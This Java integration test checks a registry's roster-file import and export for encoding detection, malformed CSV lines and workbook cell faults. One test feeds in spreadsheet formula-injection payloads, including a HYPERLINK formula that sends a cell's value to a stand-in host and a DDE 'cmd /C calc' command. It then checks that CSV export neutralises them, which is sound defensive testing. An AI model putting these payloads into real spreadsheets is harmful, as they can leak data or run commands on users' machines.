package io.lianluo.registry;

import static io.lianluo.testing.RawWorkbook.text;
import static org.assertj.core.api.Assertions.assertThat;
import static org.awaitility.Awaitility.await;

import io.lianluo.registry.unit.Unit;
import io.lianluo.testing.RawWorkbook;
import java.nio.charset.Charset;
import java.nio.charset.StandardCharsets;
import java.util.Arrays;
import java.util.List;
import java.util.stream.IntStream;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;
import tools.jackson.databind.JsonNode;

/** Files as offices have them come in right, or are told what is wrong with them. */
class RosterFilesIT extends RegistryTest {

    private static final String XLSX = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet";
    private static final String HEADER = "type,unit,unit_name,unit_kind,programmes,programme,name,mobile,email,since\n";
    private static final Charset OLDER = Charset.forName("GB18030");

    @BeforeAll
    void programme() {
        publish(ASSOCIATION);
    }

    @Test
    void namesThatAreUtf8ByChanceAreReadAsChinese() {
        csv((HEADER + units("FE", 3)).getBytes(StandardCharsets.UTF_8), "");
        byte[] liaisons = takenOver(HEADER + "liaison,FE-1,,,,auto-trade-association,郑伟,13800130201,,2026-07-02\n"
                + "liaison,FE-2,,,,auto-trade-association,叶强,13800130202,,2026-07-02\n"
                + "liaison,FE-3,,,,auto-trade-association,谢雪梅,13800130203,,2026-07-02\n").getBytes(OLDER);
        for (String charset : List.of("; charset=utf-8", "; charset=big5", "; charset=utf-16")) {
            Answer refused = csv(liaisons, charset);
            assertThat(refused.status()).as(charset).isEqualTo(400);
            assertThat(refused.faults()).singleElement().asString().startsWith("Content-Type: encoding-");
        }
        assertThat(csv(liaisons, "; charset=no-such").status()).isEqualTo(415);
        Answer report = csv(liaisons, "");
        assertThat(report.body().get("appointments").asInt()).isEqualTo(3);
        assertThat(report.text("encoding")).isEqualTo("GB18030");
        assertThat(report.text("encodingFrom")).isEqualTo("CONTENT");
        assertThat(names("FE", 3)).containsExactly("郑伟", "叶强", "谢雪梅");
        Answer declared = csv(liaisons, "; charset=\"gbk\"");
        assertThat(declared.text("encodingFrom")).isEqualTo("DECLARED");
        assertThat(declared.body().get("persons").asInt()).as("the same").isZero();
    }

    @Test
    void aFileThatIsDamagedIsToldByItsPlaceAndChangesNothing() {
        byte[] whole = (HEADER + units("FD", 2)).getBytes(StandardCharsets.UTF_8);
        byte[] cut = Arrays.copyOf(whole, whole.length);
        cut[new String(whole, StandardCharsets.UTF_8).indexOf("示例2") + 2 * 4 + 1] = 'x';
        Answer refused = csv(cut, "");
        assertThat(refused.status()).isEqualTo(400);
        assertThat(refused.faults().getFirst()).isEqualTo("file: encoding-malformed");
        assertThat(refused.body().get("errors").get(0).get("message").asString()).startsWith("第 3 行第 ");
        assertThat(get(OPERATOR, "/units/" + Unit.id("FD-1")).status()).isEqualTo(404);
    }

    @Test
    void aQuoteThatIsWrongBehindFiveHundredLinesChangesNothing() {
        StringBuilder file = new StringBuilder(HEADER);
        for (int n = 1; n <= 600; n++) {
            file.append(n == 551 ? "unit,FQ-551,\"示例\"五五一,member-unit,auto-trade-association,,,,,2026-07-01\n" : unit("FQ", n));
        }
        Answer refused = csv(file.toString().getBytes(StandardCharsets.UTF_8), "");
        assertThat(refused.status()).isEqualTo(400);
        assertThat(refused.faults()).containsExactly("file: roster-not-csv");
        assertThat(refused.body().toString()).contains("552");
        assertThat(get(OPERATOR, "/units/" + Unit.id("FQ-1")).status()).isEqualTo(404);
    }

    @Test
    void aLineOfTooManyCellsIsAFaultAndTheOthersComeIn() {
        Answer report = csv((HEADER + unit("FC", 1) + unit("FC", 2).replace("示例2", "示例省,示例市")).getBytes(StandardCharsets.UTF_8), "");
        assertThat(report.body().get("units").asInt()).isEqualTo(1);
        JsonNode rejected = report.body().get("rejected").get(0);
        assertThat(rejected.get("line").asInt()).isEqualTo(3);
        assertThat(rejected.get("rule").asString()).isEqualTo("roster-cells-surplus");
        assertThat(rejected.get("reason").asString()).contains("11").contains("10");
    }

    @Test
    void whatASpreadsheetWouldRunGoesOutHarmlessAndComesBackAsItWas() {
        String file = "type,unit,unit_name,unit_kind,programmes,registration_kind,address,since\n"
                + "unit,FX-1,\"=HYPERLINK(\"\"http://sample.example/?x=\"\"&B2,\"\"示例\"\")\",member-unit,auto-trade-association,@SUM(1+1),=cmd|' /C calc'!A0,2026-07-01\n"
                + "unit,FX-2,+86示例,member-unit,auto-trade-association,-2+3,\t=1+1,2026-07-01\n";
        assertThat(csv(file.getBytes(StandardCharsets.UTF_8), "").body().get("rejected")).isEmpty();
        String before = get(OPERATOR, "/units/" + Unit.id("FX-1")).body().toString();
        for (String type : List.of("text/csv", XLSX)) {
            byte[] exported = download(OPERATOR, "/units/export?programme=" + ASSOCIATION, "Accept", type);
            if (type.equals("text/csv")) {
                assertThat(new String(exported, StandardCharsets.UTF_8)).doesNotContainPattern("(?m)(^|[,\"])[=+@＝＋－＠]").doesNotContain(",-2").contains("'=HYPERLINK");
            }
            Answer again = send("POST", OPERATOR, "/roster-imports", type, exported);
            assertThat(again.body().get("rejected")).isEmpty();
            assertThat(again.body().get("units").asInt()).as("unchanged").isZero();
        }
        assertThat(get(OPERATOR, "/units/" + Unit.id("FX-1")).body().toString()).isEqualTo(before).contains("=HYPERLINK(");
    }

    @Test
    void workbooksAreToldCellByCell() {
        String rows = "<row r=\"1\">" + text("A1", "type") + text("B1", "unit") + text("C1", "unit_name") + text("D1", "unit_kind") + text("E1", "programmes")
                + text("F1", "programme") + text("G1", "name") + text("H1", "mobile") + text("I1", "since") + "</row>"
                + workbookUnit(2, "<c r=\"C2\" t=\"e\"><v>#REF!</v></c>", "") + workbookUnit(3, text("C3", "示例三"), "<c r=\"I3\" s=\"1\"><v>46204</v></c>")
                + workbookUnit(4, text("C4", "示例四"), "<c r=\"I4\" s=\"1\"><f>DATE(2026,7,1)</f><v></v></c>")
                + "<row r=\"5\">" + text("A5", "liaison") + text("B5", "FW-3") + text("F5", ASSOCIATION) + "<c r=\"G5\" t=\"b\"><v>1</v></c>" + text("H5", "13800131501") + "</row>";
        for (String type : List.of(XLSX, "application/vnd.ms-excel", "application/vnd.ms-excel.sheet.macroEnabled.12")) {
            Answer report = send("POST", OPERATOR, "/roster-imports", type, RawWorkbook.ofRows(rows).formats(new int[] {0, 58}).bytes());
            assertThat(report.status()).isEqualTo(200);
            assertThat(report.body().get("rejected")).extracting(fault -> fault.get("line").asInt() + " " + fault.get("column").asString() + " " + fault.get("rule").asString())
                    .containsExactly("2 unit_name cell-is-an-error", "4 since formula-without-value", "5 name cell-is-a-boolean");
            assertThat(report.body().has("encoding")).isFalse();
        }
        assertThat(get(OPERATOR, "/units/" + Unit.id("FW-3")).text("foundedOn")).isEqualTo("2026-07-01");
        assertThat(get(OPERATOR, "/units/" + Unit.id("FW-4")).status()).isEqualTo(404);
    }

    @ParameterizedTest
    @CsvSource({XLSX + ",'',roster-empty", XLSX + ",PK,roster-not-xlsx", "application/vnd.ms-excel,'type,unit',roster-not-xlsx", "text/csv,'PK\u0003\u0004',roster-workbook-as-csv"})
    void whatIsNoRosterIsRefused(String type, String content, String rule) {
        Answer refused = send("POST", OPERATOR, "/roster-imports", type, content.getBytes(StandardCharsets.UTF_8));
        assertThat(refused.status()).isEqualTo(400);
        assertThat(refused.faults()).containsExactly("file: " + rule);
    }

    @Test
    void aLongFileSaysItsEncodingAndEndsWithItsFault() {
        String long1 = HEADER + ("dog,FL-1," + "示例".repeat(40) + ",,,,,,,\n").repeat(5_000);
        Answer begun = csv(long1.getBytes(OLDER), "");
        assertThat(begun.status()).isEqualTo(202);
        await().untilAsserted(() -> assertThat(get(OPERATOR, "/roster-imports/" + begun.text("id")).text("standing")).isEqualTo("DONE"));
        assertThat(get(OPERATOR, "/roster-imports/" + begun.text("id")).text("encoding")).isEqualTo("GB18030");
        Answer commas = csv((HEADER + unit("FL", 2) + ",".repeat(2 << 20)).getBytes(StandardCharsets.UTF_8), "");
        await().untilAsserted(() -> assertThat(get(OPERATOR, "/roster-imports/" + commas.text("id")).text("standing")).isEqualTo("BROKEN"));
        assertThat(get(OPERATOR, "/roster-imports/" + commas.text("id") + "/rejected").body().get("items").get(0).get("rule").asString())
                .isEqualTo("roster-line-too-long");
        assertThat(get(OPERATOR, "/units/" + Unit.id("FL-2")).status()).as("nothing is in").isEqualTo(404);
    }

    private Answer csv(byte[] file, String charset) {
        return send("POST", OPERATOR, "/roster-imports", "text/csv" + charset, file);
    }

    private List<String> names(String prefix, int count) {
        return IntStream.rangeClosed(1, count).mapToObj(n -> get(OPERATOR, "/liaisons?programme=" + ASSOCIATION + "&unit=" + Unit.id(prefix + "-" + n))
                .body().get("items").get(0).get("name").asString()).toList();
    }

    private static String units(String prefix, int count) {
        StringBuilder lines = new StringBuilder();
        for (int n = 1; n <= count; n++) {
            lines.append(unit(prefix, n));
        }
        return lines.toString();
    }

    private static String unit(String prefix, int n) {
        return "unit,%s-%d,示例%d,member-unit,auto-trade-association,,,,,2026-07-01\n".formatted(prefix, n, n);
    }

    private static String workbookUnit(int row, String name, String since) {
        return "<row r=\"" + row + "\">" + text("A" + row, "unit") + text("B" + row, "FW-" + row) + name + text("D" + row, "member-unit") + text("E" + row, ASSOCIATION)
                + since + "</row>";
    }
}
